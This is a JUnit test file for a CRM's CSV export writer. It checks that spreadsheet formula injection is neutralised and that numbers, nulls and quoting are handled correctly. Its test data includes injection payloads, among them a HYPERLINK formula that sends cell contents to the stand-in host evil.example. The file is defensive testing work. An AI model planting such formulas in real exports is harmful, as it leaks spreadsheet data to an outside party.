package org.openpharma.crm.system;

import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** The one CSV writer of every export: formula injection (OWASP), numbers, nulls, quoting. */
class CsvExportTests {

	@ParameterizedTest
	@ValueSource(strings = { "=1+1", "+81 3 1234", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
			"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")" })
	void textThatASpreadsheetWouldEvaluateGetsALeadingQuote(String text) {
		assertThat(CsvExport.neutralise(text)).isEqualTo("'" + text);
	}

	@Test
	void ordinaryTextAndNumbersStayAsTheyAre() {
		assertThat(CsvExport.neutralise("東京大学病院")).isEqualTo("東京大学病院");
		assertThat(CsvExport.neutralise("a=b")).isEqualTo("a=b");
		assertThat(CsvExport.neutralise("")).isEqualTo("");
		assertThat(CsvExport.neutralise(null)).isEqualTo("");
		assertThat(CsvExport.neutralise(-3)).isEqualTo(-3);
		assertThat(CsvExport.neutralise(-0.25)).isEqualTo(-0.25);
		assertThat(CsvExport.neutralise(new BigDecimal("-1.5"))).isEqualTo(new BigDecimal("-1.5"));
	}

	@Test
	void anythingElseIsWrittenAsTextAndNeutralisedToo() {
		Object negative = new Object() {
			@Override
			public String toString() {
				return "-RAW";
			}
		};
		assertThat(CsvExport.neutralise(negative)).isEqualTo("'-RAW");
	}

	@Test
	void writesABomTheHeaderAndRecordsWithNeutralisedTextAndPlainNumbers() throws Exception {
		StringWriter out = new StringWriter();
		try (CsvExport csv = CsvExport.to(out, "id", "=name", "count")) {
			csv.row(1L, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", -5);
			csv.row(List.of(2, "佐藤, 花子", "-"));
			csv.row(3, null, "@x");
		}
		assertThat(out.toString()).isEqualTo("\uFEFFid,'=name,count\r\n"
				+ "1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"open\"\")\",-5\r\n"
				+ "2,\"佐藤, 花子\",'-\r\n"
				+ "3,,'@x\r\n");
	}

}
